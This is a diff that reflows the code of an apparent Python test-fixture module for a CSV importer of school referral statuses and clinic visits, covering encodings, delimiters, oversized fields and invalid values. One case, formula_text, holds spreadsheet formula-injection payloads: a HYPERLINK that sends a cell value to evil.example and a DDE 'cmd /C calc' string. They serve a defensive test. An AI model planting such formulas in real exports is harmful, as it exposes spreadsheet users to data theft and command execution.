@@ -15,8 +15,17 @@ from pathlib import Path
 
 TODAY = dt.date(2026, 9, 15)
 STATUS_HEADER = ("referral_id", "status", "status_date", "first_service_date", "status_reason")
-VISIT_HEADER = ("partner_visit_id", "student_number", "referral_id", "visit_date", "time_in", "time_out",
-                "service_codes", "purpose_code", "clinician_name")
+VISIT_HEADER = (
+    "partner_visit_id",
+    "student_number",
+    "referral_id",
+    "visit_date",
+    "time_in",
+    "time_out",
+    "service_codes",
+    "purpose_code",
+    "clinician_name",
+)
 LIMIT = 1 << 20
 Outcome = tuple[int, str | None]
 
@@ -32,15 +41,21 @@ class Case:
     notes: tuple[str, ...] | None = ()
     left: tuple[str, ...] = ()
     batches: int | None = None  # number of files read (default: one per file not left)
-    values: dict[int, dict[str, str]] = field(default_factory=dict)  # rows whose read values are checked
+    values: dict[int, dict[str, str]] = field(
+        default_factory=dict
+    )  # rows whose read values are checked
 
 
 def line(*cells: str, delimiter: str = ",") -> bytes:
     return (delimiter.join(cells) + "\r\n").encode("utf-8")
 
 
-def status_file(*rows: tuple[str, ...], header: tuple[str, ...] = STATUS_HEADER, delimiter: str = ",") -> bytes:
-    return line(*header, delimiter=delimiter) + b"".join(line(*r, delimiter=delimiter) for r in rows)
+def status_file(
+    *rows: tuple[str, ...], header: tuple[str, ...] = STATUS_HEADER, delimiter: str = ","
+) -> bytes:
+    return line(*header, delimiter=delimiter) + b"".join(
+        line(*r, delimiter=delimiter) for r in rows
+    )
 
 
 GOOD = (
@@ -56,8 +71,12 @@ def good() -> Case:
 
 
 def bom() -> Case:
-    return Case("bom", {"status_updates_bom.csv": b"\xef\xbb\xbf" + status_file(*GOOD)}, ALL_OK,
-                notes=("UTF-8 byte order mark ignored",))
+    return Case(
+        "bom",
+        {"status_updates_bom.csv": b"\xef\xbb\xbf" + status_file(*GOOD)},
+        ALL_OK,
+        notes=("UTF-8 byte order mark ignored",),
+    )
 
 
 def bad_encoding() -> Case:
@@ -65,78 +84,130 @@ def bad_encoding() -> Case:
     row2 = b"R-2,declined,2026-09-02,,Caf\xe9 closed\r\n"
     row3 = line(*GOOD[2])
     offset = len(head) + row2.index(b"\xe9")
-    return Case("bad_encoding", {"status_updates_latin1.csv": head + row2 + row3},
-                ((1, None), (2, f"not UTF-8 at byte {offset}"), (3, None)),
-                values={2: {"status_reason": "Caf\\xe9 closed"}})
+    return Case(
+        "bad_encoding",
+        {"status_updates_latin1.csv": head + row2 + row3},
+        ((1, None), (2, f"not UTF-8 at byte {offset}"), (3, None)),
+        values={2: {"status_reason": "Caf\\xe9 closed"}},
+    )
 
 
 def bad_encoding_in_header() -> Case:
     content = b"referral_id,st\xe4tus,status_date\r\n" + line("R-1", "received", "2026-09-01")
     reason = "header: not UTF-8 at byte 14"
-    return Case("bad_encoding_in_header", {"status_updates_hdr.csv": content},
-                ((0, reason), (1, reason)), errors=(reason,))
+    return Case(
+        "bad_encoding_in_header",
+        {"status_updates_hdr.csv": content},
+        ((0, reason), (1, reason)),
+        errors=(reason,),
+    )
 
 
 def utf16() -> Case:
     content = "referral_id,status,status_date\r\nR-1,received,2026-09-01\r\n".encode("utf-16")
     reason = "the file is UTF-16: export it as UTF-8 CSV"
-    return Case("utf16", {"status_updates_utf16.csv": content},
-                ((0, reason), (1, f"{reason}; contains NUL bytes"), (2, f"{reason}; contains NUL bytes")),
-                errors=(reason,))
+    return Case(
+        "utf16",
+        {"status_updates_utf16.csv": content},
+        ((0, reason), (1, f"{reason}; contains NUL bytes"), (2, f"{reason}; contains NUL bytes")),
+        errors=(reason,),
+    )
 
 
 def wrong_delimiter(delimiter: str = ";") -> Case:
     shown = "tab" if delimiter == "\t" else f"'{delimiter}'"
-    reason = f"wrong delimiter: the header is one column containing {shown}; expected ','-separated columns"
+    reason = (
+        f"wrong delimiter: the header is one column containing {shown}; "
+        "expected ','-separated columns"
+    )
     name = "semicolon" if delimiter == ";" else "tab"
-    return Case(f"wrong_delimiter_{name}", {f"status_updates_{name}.csv": status_file(*GOOD, delimiter=delimiter)},
-                tuple((n, reason) for n in (1, 2, 3)), errors=(reason,))
+    return Case(
+        f"wrong_delimiter_{name}",
+        {f"status_updates_{name}.csv": status_file(*GOOD, delimiter=delimiter)},
+        tuple((n, reason) for n in (1, 2, 3)),
+        errors=(reason,),
+    )
 
 
 def missing_column() -> Case:
     header = ("referral_id", "status", "first_service_date")
     rows = [(r[0], r[1], r[3]) for r in GOOD]
     reason = "missing column status_date"
-    return Case("missing_column", {"status_updates_missing.csv": status_file(*rows, header=header)},
-                tuple((n, reason) for n in (1, 2, 3)), errors=(reason,))
+    return Case(
+        "missing_column",
+        {"status_updates_missing.csv": status_file(*rows, header=header)},
+        tuple((n, reason) for n in (1, 2, 3)),
+        errors=(reason,),
+    )
 
 
 def extra_columns() -> Case:
     header = (*STATUS_HEADER, "partner_notes", "Clinic")
     rows = [(*r, "=1+1", "North") for r in GOOD]
-    return Case("extra_columns", {"status_updates_extra.csv": status_file(*rows, header=header)}, ALL_OK,
-                notes=("extra columns ignored: partner_notes, Clinic",))
+    return Case(
+        "extra_columns",
+        {"status_updates_extra.csv": status_file(*rows, header=header)},
+        ALL_OK,
+        notes=("extra columns ignored: partner_notes, Clinic",),
+    )
 
 
 def quoted_newlines() -> Case:
-    content = status_file(GOOD[0]) + b'R-2,declined,2026-09-02,,"family moved,\r\nno forwarding ""address"""\r\n'
+    content = (
+        status_file(GOOD[0])
+        + b'R-2,declined,2026-09-02,,"family moved,\r\nno forwarding ""address"""\r\n'
+    )
     content += line(*GOOD[2])
-    return Case("quoted_newlines", {"status_updates_nl.csv": content}, ALL_OK,
-                values={2: {"status_reason": 'family moved,\r\nno forwarding "address"'}})
+    return Case(
+        "quoted_newlines",
+        {"status_updates_nl.csv": content},
+        ALL_OK,
+        values={2: {"status_reason": 'family moved,\r\nno forwarding "address"'}},
+    )
 
 
 def huge_line() -> Case:
     huge = b"R-2,declined,2026-09-02,," + b"x" * (LIMIT + 10) + b"\r\n"
     content = status_file(GOOD[0]) + huge + line(*GOOD[2])
-    return Case("huge_line", {"status_updates_huge.csv": content},
-                ((1, None), (2, f"line 3 is longer than {LIMIT} bytes ({len(huge)} bytes)"), (3, None)))
+    return Case(
+        "huge_line",
+        {"status_updates_huge.csv": content},
+        ((1, None), (2, f"line 3 is longer than {LIMIT} bytes ({len(huge)} bytes)"), (3, None)),
+    )
 
 
 def huge_quoted_field() -> Case:
     first = b'R-2,declined,2026-09-02,,"' + b"y" * 1000 + b"\r\n"
     middle = (b"y" * 1000 + b"\r\n") * 1100
     content = status_file(GOOD[0]) + first + middle + b'end"\r\n' + line(*GOOD[2])
-    reason = f"unreadable CSV (field larger than field limit ({LIMIT})); row spans lines 3-{3 + 1101}"
-    return Case("huge_quoted_field", {"status_updates_hugefield.csv": content},
-                ((1, None), (2, reason), (3, None)))
+    reason = (
+        f"unreadable CSV (field larger than field limit ({LIMIT})); row spans lines 3-{3 + 1101}"
+    )
+    return Case(
+        "huge_quoted_field",
+        {"status_updates_hugefield.csv": content},
+        ((1, None), (2, reason), (3, None)),
+    )
 
 
 def nul_bytes() -> Case:
-    content = status_file(GOOD[0]) + b"R-2,accep\x00ted,2026-09-02,,\r\n" + b"\x00\x00\r\n" + line(*GOOD[2])
-    return Case("nul_bytes", {"status_updates_nul.csv": content},
-                ((1, None), (2, "contains NUL bytes"), (3, "contains NUL bytes; row has 0 fields, header has 5"),
-                 (4, None)),
-                values={2: {"status": "accepted"}})
+    content = (
+        status_file(GOOD[0])
+        + b"R-2,accep\x00ted,2026-09-02,,\r\n"
+        + b"\x00\x00\r\n"
+        + line(*GOOD[2])
+    )
+    return Case(
+        "nul_bytes",
+        {"status_updates_nul.csv": content},
+        (
+            (1, None),
+            (2, "contains NUL bytes"),
+            (3, "contains NUL bytes; row has 0 fields, header has 5"),
+            (4, None),
+        ),
+        values={2: {"status": "accepted"}},
+    )
 
 
 def empty_file() -> Case:
@@ -148,54 +219,94 @@ def header_only() -> Case:
 
 
 def formula_text() -> Case:
-    rows = [("R-1", "declined", "2026-09-01", "", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
-            ("R-2", "accepted", "2026-09-02", "", "@SUM(1+1)*cmd|' /C calc'!A0"),
-            ("R-3", "received", "2026-09-03", "", "+1 203 555 0100")]
+    rows = [
+        ("R-1", "declined", "2026-09-01", "", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+        ("R-2", "accepted", "2026-09-02", "", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("R-3", "received", "2026-09-03", "", "+1 203 555 0100"),
+    ]
     content = line(*STATUS_HEADER) + b"".join(
-        (",".join(c if "," not in c and '"' not in c else '"' + c.replace('"', '""') + '"' for c in r) + "\r\n").encode()
-        for r in rows)
-    return Case("formula_text", {"status_updates_formula.csv": content}, ALL_OK,
-                values={1: {"status_reason": rows[0][4]}, 2: {"status_reason": rows[1][4]}})
+        (
+            ",".join(
+                c if "," not in c and '"' not in c else '"' + c.replace('"', '""') + '"' for c in r
+            )
+            + "\r\n"
+        ).encode()
+        for r in rows
+    )
+    return Case(
+        "formula_text",
+        {"status_updates_formula.csv": content},
+        ALL_OK,
+        values={1: {"status_reason": rows[0][4]}, 2: {"status_reason": rows[1][4]}},
+    )
 
 
 def duplicate_rows() -> Case:
-    return Case("duplicate_rows", {"status_updates_a.csv": status_file(GOOD[0], GOOD[0]),
-                                   "status_updates_b.csv": status_file(GOOD[0])},
-                ((1, None), (2, None), (1, None)))
+    return Case(
+        "duplicate_rows",
+        {
+            "status_updates_a.csv": status_file(GOOD[0], GOOD[0]),
+            "status_updates_b.csv": status_file(GOOD[0]),
+        },
+        ((1, None), (2, None), (1, None)),
+    )
 
 
 def partial_uploads() -> Case:
-    files = {"status_updates_1.csv.part": status_file(*GOOD), ".status_updates_2.csv": status_file(*GOOD),
-             "status_updates_3.csv.tmp": status_file(*GOOD), "~$status_updates_4.csv": status_file(*GOOD),
-             "status_updates_5.csv": status_file(GOOD[0])}
-    left = ("status_updates_1.csv.part", ".status_updates_2.csv", "status_updates_3.csv.tmp", "~$status_updates_4.csv")
+    files = {
+        "status_updates_1.csv.part": status_file(*GOOD),
+        ".status_updates_2.csv": status_file(*GOOD),
+        "status_updates_3.csv.tmp": status_file(*GOOD),
+        "~$status_updates_4.csv": status_file(*GOOD),
+        "status_updates_5.csv": status_file(GOOD[0]),
+    }
+    left = (
+        "status_updates_1.csv.part",
+        ".status_updates_2.csv",
+        "status_updates_3.csv.tmp",
+        "~$status_updates_4.csv",
+    )
     return Case("partial_uploads", files, ((1, None),), left=left, batches=1)
 
 
 def field_count() -> Case:
-    content = status_file(GOOD[0]) + line("R-2", "declined", "2026-09-02", "", "", "stray") + line("R-3", "received")
-    return Case("field_count", {"status_updates_count.csv": content},
-                ((1, None), (2, "row has 6 fields, header has 5"), (3, "row has 2 fields, header has 5")))
+    content = (
+        status_file(GOOD[0])
+        + line("R-2", "declined", "2026-09-02", "", "", "stray")
+        + line("R-3", "received")
+    )
+    return Case(
+        "field_count",
+        {"status_updates_count.csv": content},
+        ((1, None), (2, "row has 6 fields, header has 5"), (3, "row has 2 fields, header has 5")),
+    )
 
 
 def bad_values() -> Case:
-    rows = [("R-1", "XYZ", "2026-09-01", "", ""),
-            ("R-2", "accepted", "2026-13-01", "", ""),
-            ("R-3", "accepted", "2026-09-17", "", ""),
-            ("", "accepted", "2026-09-01", "", ""),
-            ("R-5", "sent", "2026-09-01", "", ""),
-            ("R-6", "accepted", "2026-09-16", "2026-09-20", ""),
-            ("R 7!", "accepted", "2026-09-01", "", ""),
-            ("R-8", "Accepted ", " 2026-09-16", "", "")]
-    return Case("bad_values", {"status_updates_values.csv": status_file(*rows)}, (
-        (1, "status: unknown code 'XYZ'"),
-        (2, "status_date: '2026-13-01' is not a date (expected YYYY-MM-DD)"),
-        (3, "status_date: in the future"),
-        (4, "referral_id: missing"),
-        (5, "status: 'sent' is a school-side status; a partner reports received..cancelled"),
-        (6, "first_service_date: in the future"),
-        (7, "referral_id: (a 4-character value) is not a valid referral id"),
-        (8, None)))
+    rows = [
+        ("R-1", "XYZ", "2026-09-01", "", ""),
+        ("R-2", "accepted", "2026-13-01", "", ""),
+        ("R-3", "accepted", "2026-09-17", "", ""),
+        ("", "accepted", "2026-09-01", "", ""),
+        ("R-5", "sent", "2026-09-01", "", ""),
+        ("R-6", "accepted", "2026-09-16", "2026-09-20", ""),
+        ("R 7!", "accepted", "2026-09-01", "", ""),
+        ("R-8", "Accepted ", " 2026-09-16", "", ""),
+    ]
+    return Case(
+        "bad_values",
+        {"status_updates_values.csv": status_file(*rows)},
+        (
+            (1, "status: unknown code 'XYZ'"),
+            (2, "status_date: '2026-13-01' is not a date (expected YYYY-MM-DD)"),
+            (3, "status_date: in the future"),
+            (4, "referral_id: missing"),
+            (5, "status: 'sent' is a school-side status; a partner reports received..cancelled"),
+            (6, "first_service_date: in the future"),
+            (7, "referral_id: (a 4-character value) is not a valid referral id"),
+            (8, None),
+        ),
+    )
 
 
 def cr_only() -> Case:
@@ -205,65 +316,107 @@ def cr_only() -> Case:
 
 
 def unclosed_quote() -> Case:
-    content = status_file(GOOD[0]) + b'R-2,declined,"2026-09-02,,\r\n' + line(*GOOD[2]) + line(*GOOD[1])
+    content = (
+        status_file(GOOD[0]) + b'R-2,declined,"2026-09-02,,\r\n' + line(*GOOD[2]) + line(*GOOD[1])
+    )
     reason = "row has 3 fields, header has 5; row spans lines 3-5"
     return Case("unclosed_quote", {"status_updates_quote.csv": content}, ((1, None), (2, reason)))
 
 
 def blank_lines() -> Case:
     content = b"\r\n" + status_file(GOOD[0]) + b"\r\n,,,,\r\n" + line(*GOOD[1])
-    return Case("blank_lines", {"status_updates_blank.csv": content}, ((1, None), (2, None)),
-                notes=("2 blank rows skipped",))
+    return Case(
+        "blank_lines",
+        {"status_updates_blank.csv": content},
+        ((1, None), (2, None)),
+        notes=("2 blank rows skipped",),
+    )
 
 
 def duplicate_header() -> Case:
     header = ("referral_id", "status", "Status", "status_date")
     reason = "duplicate column Status, status"
-    return Case("duplicate_header", {"status_updates_duphdr.csv": status_file(("R-1", "a", "b", "2026-09-01"), header=header)},
-                ((1, reason),), errors=(reason,))
+    return Case(
+        "duplicate_header",
+        {"status_updates_duphdr.csv": status_file(("R-1", "a", "b", "2026-09-01"), header=header)},
+        ((1, reason),),
+        errors=(reason,),
+    )
 
 
 def header_case_and_spaces() -> Case:
     header = (" Referral_ID", "STATUS ", "Status_Date", "first_service_date", "status_reason")
-    return Case("header_case", {"STATUS_UPDATES_upper.CSV": status_file(*GOOD, header=header)}, ALL_OK)
+    return Case(
+        "header_case", {"STATUS_UPDATES_upper.CSV": status_file(*GOOD, header=header)}, ALL_OK
+    )
 
 
 def lf_only() -> Case:
-    return Case("lf_only", {"status_updates_lf.csv": status_file(*GOOD).replace(b"\r\n", b"\n")}, ALL_OK)
+    return Case(
+        "lf_only", {"status_updates_lf.csv": status_file(*GOOD).replace(b"\r\n", b"\n")}, ALL_OK
+    )
 
 
 def visits() -> Case:
-    rows = [("V-1", "10001", "R-1", "2026-09-01", "09:05", "9:50", "individual_counseling,safety_planning", "check_in", "A. Clinician"),
-            ("V-2", "10002", "", "2026-09-02", "25:00", "", "", "", ""),
-            ("V-3", "10003", "", "2026-09-02", "10:00", "09:00", "", "", ""),
-            ("V-4", "10004", "", "2026-09-02", "", "", "yoga", "", ""),
-            ("V-5", "", "", "2026-09-02", "", "", "", "", ""),
-            ("V-6", "10006", "", "09/02/2026", "", "", "", "crisis", "")]
+    rows = [
+        (
+            "V-1",
+            "10001",
+            "R-1",
+            "2026-09-01",
+            "09:05",
+            "9:50",
+            "individual_counseling,safety_planning",
+            "check_in",
+            "A. Clinician",
+        ),
+        ("V-2", "10002", "", "2026-09-02", "25:00", "", "", "", ""),
+        ("V-3", "10003", "", "2026-09-02", "10:00", "09:00", "", "", ""),
+        ("V-4", "10004", "", "2026-09-02", "", "", "yoga", "", ""),
+        ("V-5", "", "", "2026-09-02", "", "", "", "", ""),
+        ("V-6", "10006", "", "09/02/2026", "", "", "", "crisis", ""),
+    ]
     content = line(*VISIT_HEADER) + b"".join(
-        (",".join('"' + c + '"' if "," in c else c for c in r) + "\r\n").encode() for r in rows)
-    return Case("visits", {"visits_1.csv": content}, (
-        (1, None),
-        (2, "time_in: '25:00' is not HH:MM"),
-        (3, "time_out: 09:00 is before time_in 10:00"),
-        (4, "service_codes: unknown code 'yoga'"),
-        (5, "student_number: missing"),
-        (6, "visit_date: '09/02/2026' is not a date (expected YYYY-MM-DD)")), kind="visit")
+        (",".join('"' + c + '"' if "," in c else c for c in r) + "\r\n").encode() for r in rows
+    )
+    return Case(
+        "visits",
+        {"visits_1.csv": content},
+        (
+            (1, None),
+            (2, "time_in: '25:00' is not HH:MM"),
+            (3, "time_out: 09:00 is before time_in 10:00"),
+            (4, "service_codes: unknown code 'yoga'"),
+            (5, "student_number: missing"),
+            (6, "visit_date: '09/02/2026' is not a date (expected YYYY-MM-DD)"),
+        ),
+        kind="visit",
+    )
 
 
 def bhcare_status() -> Case:
     header = ("ClientRefNo", "StatusCode", "StatusDt", "FirstApptDate", "Notes/Reason")
-    rows = [("R-1", "RCVD", "09/01/2026", "", ""),
-            ("R-2", "SEEN", "9/10/2026", "09/10/2026", "first session"),
-            ("R-3", "received", "09/03/2026", "", ""),
-            ("R-4", "DISCH", "2026-09-14", "", "")]
-    return Case("bhcare_status", {"BHC_STATUS_20260915.csv": status_file(*rows, header=header),
-                                  "status_updates_1.csv": status_file(*GOOD)},
-                ((1, None), (2, None), (3, "status: unknown code 'received'"), (4, None)),
-                mapping="bhcare", left=("status_updates_1.csv",), batches=1)
+    rows = [
+        ("R-1", "RCVD", "09/01/2026", "", ""),
+        ("R-2", "SEEN", "9/10/2026", "09/10/2026", "first session"),
+        ("R-3", "received", "09/03/2026", "", ""),
+        ("R-4", "DISCH", "2026-09-14", "", ""),
+    ]
+    return Case(
+        "bhcare_status",
+        {
+            "BHC_STATUS_20260915.csv": status_file(*rows, header=header),
+            "status_updates_1.csv": status_file(*GOOD),
+        },
+        ((1, None), (2, None), (3, "status: unknown code 'received'"), (4, None)),
+        mapping="bhcare",
+        left=("status_updates_1.csv",),
+        batches=1,
+    )
 
 
 def write_status_rows(path: Path, rows: int, *, bad_every: int = 0, pad: int = 60) -> int:
-    """Stream a generic status-update file of `rows` data rows to `path` (for memory tests and bench/).
+    """Stream a generic status-update file of `rows` data rows to `path` (memory tests, bench/).
 
     Every `bad_every`-th row (if set) has an unknown status code, so it is quarantined. Returns
     the file size in bytes. Nothing is held in memory, so a 1,000,000-row file costs nothing here.
@@ -277,8 +430,33 @@ def write_status_rows(path: Path, rows: int, *, bad_every: int = 0, pad: int = 6
 
 
 def all_cases() -> list[Case]:
-    return [good(), bom(), bad_encoding(), bad_encoding_in_header(), utf16(), wrong_delimiter(";"),
-            wrong_delimiter("\t"), missing_column(), extra_columns(), quoted_newlines(), huge_line(),
-            huge_quoted_field(), nul_bytes(), empty_file(), header_only(), formula_text(), duplicate_rows(),
-            partial_uploads(), field_count(), bad_values(), cr_only(), unclosed_quote(), blank_lines(),
-            duplicate_header(), header_case_and_spaces(), lf_only(), visits(), bhcare_status()]
+    return [
+        good(),
+        bom(),
+        bad_encoding(),
+        bad_encoding_in_header(),
+        utf16(),
+        wrong_delimiter(";"),
+        wrong_delimiter("\t"),
+        missing_column(),
+        extra_columns(),
+        quoted_newlines(),
+        huge_line(),
+        huge_quoted_field(),
+        nul_bytes(),
+        empty_file(),
+        header_only(),
+        formula_text(),
+        duplicate_rows(),
+        partial_uploads(),
+        field_count(),
+        bad_values(),
+        cr_only(),
+        unclosed_quote(),
+        blank_lines(),
+        duplicate_header(),
+        header_case_and_spaces(),
+        lf_only(),
+        visits(),
+        bhcare_status(),
+    ]
